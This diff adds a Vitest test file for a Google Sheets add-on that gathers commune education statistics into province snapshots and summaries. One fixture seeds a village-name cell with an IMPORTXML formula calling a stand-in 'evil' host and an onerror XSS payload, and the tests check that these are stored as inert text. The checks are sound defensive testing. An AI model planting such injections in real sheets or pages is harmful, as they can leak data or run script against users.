@@ -1,0 +1,337 @@
+import { describe, expect, it, vi } from "vitest";
+import { UNITS, VILLAGES } from "../../src/core/schema";
+import {
+  closeYearJob,
+  continueGather,
+  gatherJob,
+  summaryJob,
+  templateJob,
+} from "../../src/sheets/jobs";
+import { META } from "../../src/sheets/tabs";
+import { gatheredState, gatherWithCut } from "../fixtures/resume";
+import { areaRow, seedCommune, seedProvince, typeRows } from "../fixtures/workbooks";
+import { createEnvironment, type Env, installGlobals } from "../memory";
+import { col, tab, useEnvironment } from "./helpers";
+
+const env = useEnvironment();
+vi.setConfig({ testTimeout: 30_000 });
+const DAY = 86_400_000;
+const small = { villages: 3, units: 2, years: [2025, 2026] } as const;
+
+type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
+
+const gatherNow = (e: Env, ss: Spreadsheet, year = 2026, budgetMs?: number) =>
+  gatherJob(ss, year, { now: () => e.clock.now(), budgetMs });
+
+/** The status tab's outcome rows, by area code: [status, closing]. */
+function statuses(ss: Spreadsheet, year = 2026): Record<string, [string, string]> {
+  const grid = tab(ss, `Tình trạng thu thập ${year}`).getDataRange().getValues();
+  const start = grid.findIndex((r) => r[0] === "Mã địa bàn");
+  return Object.fromEntries(
+    grid.slice(start + 1).map((r) => [String(r[0]), [String(r[2]), String(r[3])]]),
+  );
+}
+
+/** A province of 30 communes whose sheets end in every status a source can have. */
+function provinceInEveryState(e: Env) {
+  const { province, communes } = seedProvince(e, 30, small);
+  const c = (n: number) => communes[n - 1]?.ss as Spreadsheet;
+  const v = (n: number) => tab(c(n), VILLAGES.name);
+  // Closed on time (5/12), closed late (11/12), the rest still open at gathering (12/12).
+  for (let n = 1; n <= 10; n++) expect(closeYearJob(c(n), 2026, e.clock.now()).ok).toBe(true);
+  e.clock.advance(6 * DAY);
+  for (const n of [11, 12]) expect(closeYearJob(c(n), 2026, e.clock.now()).ok).toBe(true);
+  e.clock.advance(DAY);
+  v(21)
+    .getRange(5, col(v(21), "Tổng số hộ"))
+    .setValue("abc"); // has errors
+  e.setAccess(c(22), "none"); // no access
+  const registry = tab(province, "Danh sách địa bàn");
+  registry
+    .getRange(24, 3)
+    .setValue("https://docs.google.com/spreadsheets/d/1khongtontaiXXXXXXXXXXXXXXXXXXXX/edit"); // not found (row 24 = commune 23)
+  const plain = e.createSpreadsheet("Bảng tính khác", { activate: false });
+  registry.getRange(25, 3).setValue(plain.getUrl()); // not a sheet of this add-on
+  const md = c(25)
+    .getDeveloperMetadata()
+    .find((m) => m.getKey() === META.template);
+  md?.setValue("0"); // wrong template version
+  registry.getRange(27, 3).setValue(""); // no URL (commune 26)
+  v(27).getRange(5, 1, 3, 17).clearContent(); // no 2026 rows
+  const u27 = tab(c(27), UNITS.name);
+  u27.getRange(4, 1, 2, 11).clearContent();
+  tab(c(27), "Hội Khuyến học xã").getRange(3, 1, 1, 7).clearContent();
+  v(28)
+    .getRange(5, col(v(28), "Tên thôn/TDP"))
+    .setValue('=IMPORTXML("http://evil","//a")'); // hostile text
+  v(28)
+    .getRange(6, col(v(28), "Tên thôn/TDP"))
+    .setValue("<img src=x onerror=alert(1)>");
+  v(29)
+    .getRange(5, col(v(29), "Tổng số hộ"))
+    .setValue(5e9); // hostile number
+  for (const x of communes) if (x.ss !== c(22)) e.setAccess(x.ss, "view"); // read-only for the province
+  e.setActive(province);
+  return { province, communes, c };
+}
+
+describe("gathering a province of 30 communes", () => {
+  it("ends every source in one clear status and copies only good rows", () => {
+    const e = env();
+    const { province } = provinceInEveryState(e);
+    const result = gatherNow(e, province);
+    expect(result.ok).toBe(true);
+    expect(result.message).toBe("Đã thu thập 22/30 nguồn; 8 nguồn có vấn đề (xem tab tình trạng).");
+    const s = statuses(province);
+    expect(s["20000"]).toEqual(["Đã thu thập", "Đúng hạn"]);
+    expect(s["20010"]).toEqual(["Đã thu thập", "Chốt muộn"]);
+    expect(s["20012"]).toEqual(["Đã thu thập", "Chưa chốt, đã quá hạn"]);
+    expect(s["20020"]?.[0]).toBe("Có lỗi, chưa lấy số liệu mới");
+    expect(s["20021"]?.[0]).toBe("Không có quyền xem bảng tính");
+    expect(s["20022"]?.[0]).toBe("Không tìm thấy bảng tính");
+    expect(s["20023"]?.[0]).toBe("Không phải bảng tính của tiện ích");
+    expect(s["20024"]?.[0]).toBe("Sai phiên bản mẫu");
+    expect(s["20025"]?.[0]).toBe("Chưa có đường dẫn");
+    expect(s["20026"]?.[0]).toBe("Không có số liệu năm này");
+    expect(s["20027"]).toEqual(["Đã thu thập", "Chưa chốt, đã quá hạn"]);
+    expect(s["20028"]?.[0]).toBe("Có lỗi, chưa lấy số liệu mới");
+    const grid = tab(province, "Tình trạng thu thập 2026").getDataRange().getValues();
+    const detail = grid.find((r) => r[0] === "20020")?.[8];
+    expect(String(detail)).toContain("Thôn - TDP D5");
+    expect(String(detail)).toContain('"abc" không phải là số');
+    expect(grid.find((r) => r[0] === "Toàn bộ")?.slice(1, 7)).toEqual([
+      30, 22, 12, 10, 0.733, 0.333,
+    ]);
+  });
+
+  it("writes gathered text as text, stamped with source, time and closing state", () => {
+    const e = env();
+    const { province, c } = provinceInEveryState(e);
+    gatherNow(e, province);
+    const snapshot = tab(province, "Thu thập 2026 - Thôn - TDP");
+    const grid = snapshot.getDataRange().getValues();
+    expect(grid[0]?.slice(0, 8)).toEqual([
+      "Mã nguồn",
+      "Mã địa bàn",
+      "Tên địa bàn",
+      "Thuộc",
+      "Đường dẫn nguồn",
+      "Thu thập lúc",
+      "Tình trạng chốt",
+      "Năm",
+    ]);
+    expect(grid.length - 1).toBe(22 * 3);
+    const hostile = grid.findIndex((r) => r[9] === '=IMPORTXML("http://evil","//a")');
+    expect(hostile).toBeGreaterThan(0);
+    expect(snapshot.getRange(hostile + 1, 10).getFormula()).toBe("");
+    expect(grid.some((r) => r[9] === "<img src=x onerror=alert(1)>")).toBe(true);
+    const first = grid[1] as unknown[];
+    expect(first.slice(0, 7)).toEqual([
+      "20000",
+      "20000",
+      "Xã Số 1",
+      "",
+      c(1).getUrl(),
+      "12/12/2026 09:00",
+      "Đã chốt (canbo@example.com, 05/12/2026 09:00)",
+    ]);
+  });
+
+  it("never writes into a lower level's sheet (they are shared read-only)", () => {
+    const e = env();
+    const { province, communes } = provinceInEveryState(e);
+    const before = communes.map((x) =>
+      x.ss.getId() === communes[21]?.ss.getId()
+        ? null
+        : x.ss.getSheets().map((s) => s.getDataRange().getValues()),
+    );
+    expect(gatherNow(e, province).ok).toBe(true);
+    const after = communes.map((x) =>
+      x.ss.getId() === communes[21]?.ss.getId()
+        ? null
+        : x.ss.getSheets().map((s) => s.getDataRange().getValues()),
+    );
+    expect(after).toEqual(before);
+  });
+
+  it("one bad source never erases its previous snapshot; a fixed one comes in next time", () => {
+    const e = env();
+    const { province, c } = provinceInEveryState(e);
+    gatherNow(e, province);
+    const v1 = tab(c(1), VILLAGES.name);
+    e.setAccess(c(1), "edit");
+    v1.getRange(5, col(v1, "Tổng số hộ")).setValue(-1);
+    const v21 = tab(c(21), VILLAGES.name);
+    e.setAccess(c(21), "edit");
+    v21.getRange(5, col(v21, "Tổng số hộ")).setValue(400);
+    e.setActive(province);
+    e.clock.advance(DAY);
+    gatherNow(e, province);
+    const s = statuses(province);
+    expect(s["20000"]?.[0]).toBe("Có lỗi, chưa lấy số liệu mới");
+    expect(s["20020"]?.[0]).toBe("Đã thu thập");
+    const grid = tab(province, "Thu thập 2026 - Thôn - TDP").getDataRange().getValues();
+    expect(grid.filter((r) => r[0] === "20000")).toHaveLength(3);
+    expect(grid.filter((r) => r[0] === "20000").every((r) => r[5] === "12/12/2026 09:00")).toBe(
+      true,
+    );
+    expect(grid.filter((r) => r[0] === "20020")).toHaveLength(3);
+    const detail = tab(province, "Tình trạng thu thập 2026")
+      .getDataRange()
+      .getValues()
+      .find((r) => r[0] === "20000")?.[8];
+    expect(String(detail)).toContain("Vẫn dùng số liệu thu thập lúc 12/12/2026 09:00");
+  });
+
+  it("summarises the province from the snapshots: one row per commune, Σ/Σ total", () => {
+    const e = env();
+    const { province, communes } = provinceInEveryState(e);
+    gatherNow(e, province);
+    const result = summaryJob(province, 2026, e.clock.now());
+    expect(result).toMatchObject({ ok: true, sheet: "Tổng hợp tỉnh 2026" });
+    const summary = tab(province, "Tổng hợp tỉnh 2026").getDataRange().getValues();
+    const gathered = [...Array.from({ length: 20 }, (_, i) => i), 27, 29].map(
+      (i) => communes[i]?.sample as NonNullable<(typeof communes)[number]["sample"]>,
+    );
+    let recognized = 0;
+    let total = 0;
+    for (const sample of gathered)
+      for (const r of sample.villages.slice(1).filter((x) => x[0] === 2026)) {
+        recognized += Number(r[5]);
+        total += Number(r[3]);
+      }
+    const overview = summary.find((r) => String(r[0]).startsWith("GDHT"));
+    expect(overview?.slice(2, 4)).toEqual([recognized, total]);
+    expect(summary.some((r) => r[0] === "Xã Số 1")).toBe(true);
+    expect(summary.some((r) => r[0] === "Toàn tỉnh")).toBe(true);
+    const ct = summary.find((r) => String(r[0]).startsWith("CT_TTHTCD"));
+    expect(ct?.slice(2, 4)).toEqual([22, 22]);
+  });
+});
+
+describe("merged communes and district sheets", () => {
+  it("rebuilds a merged commune's pre-2025 rate from summed counts, never an average", () => {
+    const e = env();
+    const a = seedCommune(e, "Xã Cũ A", {
+      villages: 2,
+      units: 1,
+      years: [2024],
+      code: "A01",
+      seed: 1,
+    });
+    const b = seedCommune(e, "Xã Cũ B", {
+      villages: 4,
+      units: 1,
+      years: [2024],
+      code: "B01",
+      seed: 2,
+    });
+    const n = seedCommune(e, "Xã Mới", {
+      villages: 6,
+      units: 2,
+      years: [2026],
+      code: "N01",
+      seed: 3,
+    });
+    const province = e.createSpreadsheet("Tỉnh");
+    e.setActive(province);
+    seedProvinceTemplate(province);
+    typeRows(province, { name: "Danh sách địa bàn" }, [
+      areaRow("A01", "Xã Cũ A", a.ss.getUrl(), { formerDistrict: "Huyện Cũ", mergedInto: "N01" }),
+      areaRow("B01", "Xã Cũ B", b.ss.getUrl(), { formerDistrict: "Huyện Cũ", mergedInto: "N01" }),
+      areaRow("N01", "Xã Mới", n.ss.getUrl()),
+    ]);
+    expect(gatherNow(e, province, 2024).ok).toBe(true);
+    const s = statuses(province, 2024);
+    expect(s.A01?.[0]).toBe("Đã thu thập");
+    expect(s.N01?.[0]).toBe("Không có số liệu năm này");
+    expect(summaryJob(province, 2024, e.clock.now()).ok).toBe(true);
+    const grid = tab(province, "Tổng hợp tỉnh 2024").getDataRange().getValues();
+    const rows = [...a.sample.villages.slice(1), ...b.sample.villages.slice(1)];
+    const recognized = rows.reduce((x, r) => x + Number(r[5]), 0);
+    const total = rows.reduce((x, r) => x + Number(r[3]), 0);
+    const merged = grid.find((r) => r[0] === "Xã Mới");
+    expect(merged?.slice(2, 5)).toEqual([
+      recognized,
+      total,
+      Math.floor((recognized * 1000) / total) / 1000,
+    ]);
+    expect(grid.some((r) => r[0] === "Xã Cũ A")).toBe(false);
+    // After the reform the merged-away communes are no longer expected.
+    expect(gatherNow(e, province, 2026).message).toBe("Đã thu thập 1/1 nguồn.");
+  });
+
+  it("a province rolls up from district sheets that gathered their communes", () => {
+    const e = env();
+    const district = seedProvince(e, 3, small);
+    const districtSheet = district.province;
+    districtSheet.rename("Huyện Mẫu");
+    tab(districtSheet, "Cấu hình").getRange(2, 2).setValue("Huyện");
+    e.setActive(districtSheet);
+    expect(gatherNow(e, districtSheet).message).toBe("Đã thu thập 3/3 nguồn.");
+    const province = e.createSpreadsheet("Tỉnh");
+    e.setActive(province);
+    seedProvinceTemplate(province);
+    typeRows(province, { name: "Danh sách địa bàn" }, [
+      areaRow("H1", "Huyện Mẫu", districtSheet.getUrl()),
+    ]);
+    tab(province, "Cấu hình").getRange(9, 2).setValue("Xã → Huyện → Tỉnh (trước 1/7/2025)");
+    const r = gatherNow(e, province);
+    expect(r.message).toBe("Đã thu thập 1/1 nguồn.");
+    const snap = tab(province, "Thu thập 2026 - Thôn - TDP").getDataRange().getValues();
+    expect(snap.length - 1).toBe(9);
+    expect(new Set(snap.slice(1).map((r) => r[1]))).toEqual(new Set(["20000", "20001", "20002"]));
+    expect(snap.slice(1).every((r) => r[0] === "H1" && r[3] === "Huyện Mẫu")).toBe(true);
+    expect(summaryJob(province, 2026, e.clock.now()).ok).toBe(true);
+    const grid = tab(province, "Tổng hợp tỉnh 2026").getDataRange().getValues();
+    expect(grid.some((r) => r[0] === "Huyện Mẫu")).toBe(true);
+  });
+});
+
+/** A province template without communes. */
+function seedProvinceTemplate(ss: Spreadsheet) {
+  templateJob(ss, "Tỉnh");
+  tab(ss, "Cấu hình").getRange(3, 2).setValue("Tỉnh Mẫu");
+}
+
+describe("the 6-minute limit", () => {
+  it("stops before it, leaves a time trigger, and the trigger finishes the run", () => {
+    const e = env();
+    const { province } = seedProvince(e, 8, small);
+    e.latency.open = 40; // a slow day: 40 s to open each sheet
+    const first = gatherNow(e, province, 2026, 100_000);
+    expect(first.message).toMatch(/^Đã thu thập 3\/8 nguồn thì dừng trước giới hạn 6 phút/u);
+    expect(e.triggers.map((t) => t.handler)).toEqual(["continueGather"]);
+    expect(statuses(province)["20007"]?.[0]).toBe("Chưa thu thập (lần chạy chưa xong)");
+    e.latency.open = 1;
+    continueGather();
+    expect(Object.values(statuses(province)).every(([s]) => s === "Đã thu thập")).toBe(true);
+    expect(e.triggers).toEqual([]);
+    expect(PropertiesService.getUserProperties().getProperty("mhht.gather.pending")).toBeNull();
+  });
+});
+
+describe("a run cut at any point and resumed", () => {
+  it("ends with exactly the snapshot of an uninterrupted run: nothing doubled, nothing lost", () => {
+    const fresh = () => {
+      const e = createEnvironment({ latency: "none" });
+      const undo = installGlobals(globalThis, e);
+      const { province } = seedProvince(e, 12, small);
+      return { e, province, undo };
+    };
+    const ref = fresh();
+    ref.e.calls.reset();
+    expect(gatherWithCut(ref.e, ref.province, 2026)).toBe(1);
+    const total = ref.e.calls.total;
+    const expected = gatheredState(ref.province, 2026);
+    ref.undo();
+    expect(Object.values(expected)[0]?.length).toBe(1 + 12 * 3);
+    for (const cut of [1, 7, Math.floor(total * 0.3), Math.floor(total * 0.6), total - 3]) {
+      const run = fresh();
+      const runs = gatherWithCut(run.e, run.province, 2026, cut);
+      expect(runs, `cut at call ${cut}`).toBe(2);
+      expect(gatheredState(run.province, 2026), `cut at call ${cut} of ${total}`).toEqual(expected);
+      run.undo();
+    }
+  }, 120_000);
+});
